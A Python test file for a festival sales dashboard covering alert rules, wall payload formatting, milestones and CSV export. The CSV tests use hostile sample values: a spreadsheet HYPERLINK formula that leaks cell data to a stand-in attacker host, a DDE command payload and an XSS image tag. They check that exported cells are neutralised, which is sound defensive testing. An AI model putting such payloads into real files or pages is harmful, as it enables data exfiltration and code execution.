"""Page logic that needs no server: alert rules from TOML, the wall's payload, the app factory."""
from pathlib import Path

from dashboard import explore_state as es
from dashboard import queries as q
from dashboard import snapshot
from dashboard.app import create_app
from dashboard.pages import Context, alerts, explore, registry, wall
from stream.contract import PROMOTIONS, WAVES
from stream.settings import load

NOW = 1636632005
DAY0 = 1636560000


def test_missing_rules_file_says_no_rules(tmp_path: Path):
    rules, note = alerts.load_rules(tmp_path / "alerts.toml")
    assert rules == [] and note.startswith("no rules configured")


def test_rules_are_read_by_the_services_parser_defaults_filled_in(tmp_path: Path):
    path = tmp_path / "alerts.toml"
    path.write_text('''
[[rules]]
name = "throughput-drop"
kind = "drop"
below_percent = 40
[[webhooks]]
name = "ops"
url = "https://hooks.example.test/T000/secret-token"
''')
    (rule,), note = alerts.load_rules(path)
    assert note == ""
    assert (rule["name"], rule["kind"], rule["below_percent"], rule["window_seconds"]) == (
        "throughput-drop", "drop", "40", "60")
    assert "secret-token" not in str(rule)  # webhooks (whose URL may hold a token) are not shown


def test_a_file_the_service_would_refuse_shows_the_services_one_line_error(tmp_path: Path):
    path = tmp_path / "alerts.toml"
    path.write_text('[[rules]]\nname = "stall"\nkind = "stall"\nseverity = "page"\n')
    assert alerts.load_rules(path) == (
        [], f"alerts config {path}: rules[0] (stall): severity = 'page' is not one of critical, warning, info.")
    path.write_text("[rules\nbroken")
    assert "is not valid TOML" in alerts.load_rules(path)[1]


def test_firing_now_is_the_newest_state_per_rule():
    events = [{"event_ms": 1, "rule": "a", "state": "firing"}, {"event_ms": 2, "rule": "a", "state": "resolved"},
              {"event_ms": 3, "rule": "b", "state": "firing"}]
    assert alerts.firing_now(events) == ["b"]


def _snapshot(written_ms: int) -> snapshot.WallSnapshot:
    minutes = [q.Minute(NOW - 5, 4_042_348, 23, 20, 10, NOW - 5)]
    return snapshot.WallSnapshot(
        now_s=NOW, written_ms=written_ms, day_start_s=DAY0,
        festival=dict.fromkeys(q.MEASURES, 0) | {"gmv_fen": 4_142_348, "orders_created": 26},
        today={"gmv_fen": 4_042_348, "orders_created": 23, "orders_paid": 20}, minutes=minutes,
        last=[(NOW - 5, 10, 1), (NOW, 5, 2)], orders_now=5, peak=(10, NOW - 5),
        brands=[("Lumora Home", 1, 1, 2_500_000, 0, 0, 0)], logistics={"created": 42},
        buyers=snapshot.Buyers(today={0: 1_234_560, 1: 7}, last=[(NOW - 65, 2), (NOW - 1, 12)], minute=NOW - 65,
                               minute_buyers=9, minute_new=2))


def test_the_walls_buyers_are_exact_counts_and_shares():
    texts = wall.build_payload(_snapshot(written_ms=1_000_000), now_ms=1_003_000)["texts"]
    assert texts["wall-buyers"] == "1,234,567" and texts["wall-buyers-new"] == "+12 new / s"
    assert texts["wall-vip-buyers-share"] == "0.0%" and texts["wall-vip-buyers"] == "7 VIP buyers"
    assert texts["wall-repeat-share"] == "77.8%" and texts["wall-repeat-buyers"] == "7 of 9"
    moving = snapshot.Buyers(today={0: 0, 1: 0}, last=[], minute=NOW - 65, minute_buyers=1, minute_new=2)
    assert wall.buyer_texts(moving, NOW)["wall-repeat-share"] == "–"  # the two tables out of step: no share
    assert wall.buyer_texts(None, NOW)["wall-buyers"] == "–"


def test_wall_payload_carries_exact_fen_and_freshness():
    payload = wall.build_payload(_snapshot(written_ms=1_000_000), now_ms=1_003_000)
    assert payload["gmv"] == {"fen": 4_142_348, "yuan": "¥41,423.48", "wan": "¥4.14万", "yi": "¥0.0004亿"}
    assert payload["fresh"] == "green" and payload["as_of_ms"] == 1_000_000
    assert payload["texts"]["wall-asof"] == "as of 2021-11-11 20:00:05 CST"
    assert payload["texts"]["wall-ops-peak-at"] == "at 20:00:00"
    assert set(payload["texts"]) == set(wall.TEXTS) and set(payload["figures"]) == set(wall.FIGURES)
    assert wall.build_payload(_snapshot(1_000_000), now_ms=1_030_000)["fresh"] == "amber"
    assert wall.build_payload(_snapshot(1_000_000), now_ms=1_090_000)["fresh"] == "red"


def sums(**measures) -> tuple[int, ...]:
    """Every measure of the contract, in its order: the ones named, the others 0."""
    return tuple(measures.get(m, 0) for m in q.MEASURES)


def test_each_field_of_today_adds_the_settled_day_and_the_open_minute_per_value():
    """The wall's breakdowns and splits: each field on its own, one read of today before the open
    minute (settled), one of the open minute (moving), added up per value, largest GMV first."""
    minute = NOW // 60 * 60
    settled = [("vip", "1", *sums(gmv_fen=500, deposits_paid=2)), ("vip", "0", *sums(orders_created=3, gmv_fen=1000)),
               ("wave", "presale", *sums(gmv_fen=500)), ("wave", "wave2", *sums(gmv_fen=1000))]
    moving = [("vip", "1", *sums(gmv_fen=100, deposits_paid=1)), ("vip", "0", *sums(orders_paid=1, gmv_fen=900)),
              ("wave", "wave2", *sums(gmv_fen=1000)), ("channel", "app", *sums(gmv_fen=1000))]
    asked = []

    def run(sql, params, tier):
        if "GROUP BY w" in sql:  # which hours of today the hour tier holds: none here
            return []
        assert "orders_by_dimension_per_second FINAL" in sql and "GROUP BY dimension, value" in sql
        asked.append((params["lo0_0"], params["hi0_0"], tier))
        return settled if tier is q.SETTLED else moving

    span = (DAY0, NOW)
    fields = snapshot.added(q.dimension_sums(run, "gmv", DAY0, minute, span, q.SETTLED),
                            q.dimension_sums(run, "gmv", minute, DAY0 + 86400, span, q.MOVING))
    assert asked == [(DAY0, minute, q.SETTLED), (minute, DAY0 + 86400, q.MOVING)]
    assert snapshot.ranked(fields["vip"]) == [("0", *sums(orders_created=3, orders_paid=1, gmv_fen=1900)),
                                              ("1", *sums(gmv_fen=600, deposits_paid=3))]
    assert snapshot.ranked(fields["wave"]) == [("wave2", *sums(gmv_fen=2000)), ("presale", *sums(gmv_fen=500))]
    assert snapshot.ranked(fields["channel"], 1) == [("app", *sums(gmv_fen=1000))]
    assert fields["province"] == {}  # a field with no row today: no values


def test_wall_vip_and_presale_texts_are_exact_and_count_deposits_apart():
    splits = {
        "vip": [("0", *sums(gmv_fen=470_944_167 - 30_735_220)), ("1", *sums(gmv_fen=30_735_220))],
        # a deposit is never a paid order: its count is deposits_paid, a final's is orders_paid
        "presale_phase": [("none", *sums(orders_paid=900, gmv_fen=400_000_000)),
                          ("final", *sums(orders_paid=7_187, gmv_fen=161_246_600)),
                          ("deposit", *sums(deposits_paid=4, gmv_fen=9_400, orders_created=9))],
    }
    assert wall.festival_texts(splits) == {
        "wall-vip-share": "6.5%", "wall-vip-gmv": "¥307,352.20",
        "wall-deposits": "4", "wall-deposits-gmv": "¥94.00",
        "wall-finals": "7,187", "wall-finals-gmv": "¥1,612,466.00",
    }
    # nothing sold today yet: no share to take, zeros elsewhere
    assert wall.festival_texts({}) == {"wall-vip-share": "–", "wall-vip-gmv": "¥0.00", "wall-deposits": "0",
                                       "wall-deposits-gmv": "¥0.00", "wall-finals": "0", "wall-finals-gmv": "¥0.00"}


def test_wall_promotion_and_wave_bars_show_every_value_by_its_name():
    snap = _snapshot(1_000_000)
    snap.splits.update({"promotion": [("cross_store", *sums(gmv_fen=5000)), ("coupon", *sums(gmv_fen=3000))],
                        "wave": [("wave2", *sums(gmv_fen=8000))]})
    figs = wall.build_payload(snap, now_ms=1_000_000)["figures"]
    promotion, wave = figs["wall-fig-promotion"]["data"][0], figs["wall-fig-wave"]["data"][0]
    assert promotion["y"][-2:] == ["coupon", "cross-store"] and len(promotion["y"]) == len(PROMOTIONS)
    assert "pre-sale deposit" in promotion["y"] and "no promotion" in promotion["y"]
    assert wave["y"][-1] == "wave 2 (Nov 11)" and sorted(wave["customdata"]) == sorted(WAVES)
    assert [t.strip() for t in wave["text"]][:-1] == ["¥0"] * 3


def test_the_factory_builds_independent_apps(tmp_path: Path):
    settings = load(env={}, clickhouse_port=1, home=tmp_path)
    first, second = create_app(settings), create_app(settings.replace(clickhouse_database="other"))
    assert first.server.extensions["gmv"].db is not second.server.extensions["gmv"].db
    assert [p.path for p in registry()] == ["/", "/explore", "/alerts"]
    assert first.server.test_client().get("/").status_code == 200


class _NoRollups:
    """A database with nothing in it that records what it was asked."""

    database = "gmv"

    def __init__(self) -> None:
        self.asked: list[str] = []

    def run(self, sql, params=None, tier=None):
        self.asked.append(sql)
        return []


def _context(tmp_path: Path) -> Context:
    return Context(settings=load(env={}, clickhouse_port=1, home=tmp_path), db=_NoRollups(),
                   alerts_config=tmp_path / "alerts.toml", state={})


def test_an_unanswerable_selection_says_why_instead_of_zeros(tmp_path: Path):
    ctx = _context(tmp_path)
    state, notes = es.parse("?brand=Lumora%20Home&province=Guangdong")
    v = explore.view(ctx, state, notes)
    sentence = v["total"]
    assert sentence.endswith("nothing holds brand by province.") and sentence.count(".") == 1
    assert "¥" not in sentence and "0 orders" not in sentence
    assert v["rows"] == [] and v["table"] == []
    assert explore.to_csv(v["rows"]).splitlines() == [explore.to_csv([]).strip()]  # the header alone
    assert explore.to_csv([]).startswith("window_start_cst,orders_created,")
    assert v["series"]["layout"]["annotations"][0]["text"].replace("<br>", " ") == sentence
    for dim in ("brand", "province", "category", "vip", "presale_phase"):  # none of them combines with both
        assert "nothing holds brand by" in v["bars"][dim]["layout"]["annotations"][0]["text"].replace("<br>", " ")


def test_explore_filters_list_the_contracts_values_without_a_query(tmp_path: Path):
    ctx = _context(tmp_path)
    page = explore.layout(ctx, {"vip": "1", "promotion": "presale_deposit"})
    assert ctx.db.asked == []

    def find(component, wanted):
        if getattr(component, "id", None) == wanted:
            return component
        children = getattr(component, "children", None)
        for child in children if isinstance(children, list) else [children] if children is not None else []:
            found = find(child, wanted)
            if found is not None:
                return found
        return None

    vip = find(page, "explore-vip")
    assert vip.value == "1" and vip.options == [{"label": "VIP (APASS)", "value": "1"},
                                                {"label": "not VIP", "value": "0"}]
    promotion = find(page, "explore-promotion")
    assert promotion.value == "presale_deposit"
    assert {"label": "pre-sale deposit", "value": "presale_deposit"} in promotion.options
    assert [o["value"] for o in find(page, "explore-wave").options] == ["presale", "wave1", "wave2", "other"]
    assert find(page, "explore-fig-presale_phase") is not None


def test_csv_text_cells_that_start_like_a_formula_are_neutralised_and_numbers_never():
    import csv
    import io

    hostile = {
        "brand": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "category": "+cmd|' /C calc'!A0", "province": "-2+3", "channel": "@SUM(A1:A9)",
        "promotion": "\t=1+1", "wave": "\r=1+1",
    }
    rows = [(DAY0, 3, 2, -129_00, 0, 5, 1, 0)]  # a negative amount, as no rollup holds, stays a number
    parsed = list(csv.DictReader(io.StringIO(explore.to_csv(rows, hostile))))
    assert len(parsed) == 1
    row = parsed[0]
    for dim, value in hostile.items():
        assert row[dim] == "'" + value, dim  # shown as the text it is, never run
    assert row["gmv_fen"] == "-12900" and row["gmv_yuan"] == "-129.00" and row["refund_fen"] == "5"
    assert row["window_start_cst"] == "2021-11-11T00:00:00+08:00"


def test_csv_odd_brand_names_are_kept_as_they_are():
    import csv
    import io

    for brand in ("<img src=x onerror=alert(1)>", "花西子🌸", "Perfect Diary", "3CE", "a=b", "x-y"):
        text = explore.to_csv([(DAY0, 1, 1, 12_345, 0, 0, 0, 0)], {"category": "beauty", "brand": brand})
        header, row = list(csv.reader(io.StringIO(text)))
        assert header[:3] == ["window_start_cst", "category", "brand"]
        assert row[1:3] == ["beauty", brand] and row[5] == "12345" and row[-2] == "123.45"
    assert explore.text_cell("=1") == "'=1" and explore.text_cell("1=1") == "1=1" and explore.text_cell("") == ""


def test_milestones_banner_shows_the_newest_and_the_timeline_all_in_time_order():
    from dash._utils import to_json

    passed = [q.Passed(1_000_000_000, NOW - 30, 1_000_000_500, NOW - 28, 1_000, 5_000),  # moved 2 s earlier
              q.Passed(10_000_000, DAY0 - 3_600, 10_000_100, DAY0 - 3_600, 500, 0),  # yesterday
              q.Passed(100_000_000, NOW - 300, 100_004_000, NOW - 300, 800, 0)]
    view = wall.milestones_view(passed, DAY0, now_ms=1_000 + 59_000)
    assert view["banner"] == "¥1,000万 passed at 19:59:35 CST"
    assert (view["second"], view["figure"]) == (str(NOW - 30), "1000000000")
    assert view["banner_class"] == "milestone milestone-new"  # first recorded under a minute ago
    assert "first recorded as 19:59:37, moved by a late correction" in view["title"]
    assert wall.milestones_view(passed, DAY0, now_ms=1_000 + 60_000)["banner_class"] == "milestone"
    items = view["timeline"]
    assert [i.children[0].children for i in items] == ["¥10万", "¥100万", "¥1,000万"]
    assert [i.children[1].children for i in items] == ["11-10 23:00:00", "19:55:05", "19:59:35"]
    assert [i.className for i in items] == ["ms-item", "ms-item", "ms-item ms-moved"]
    assert '"¥1,000万"' in to_json(view)  # what the payload callback sends: components as JSON
    empty = wall.milestones_view([], DAY0, now_ms=0)
    assert empty["banner"] == "" and empty["banner_class"] == "milestone milestone-none"
    payload = wall.build_payload(_snapshot(written_ms=1_000_000), now_ms=1_003_000)
    assert payload["milestones"]["banner"] == ""  # none passed
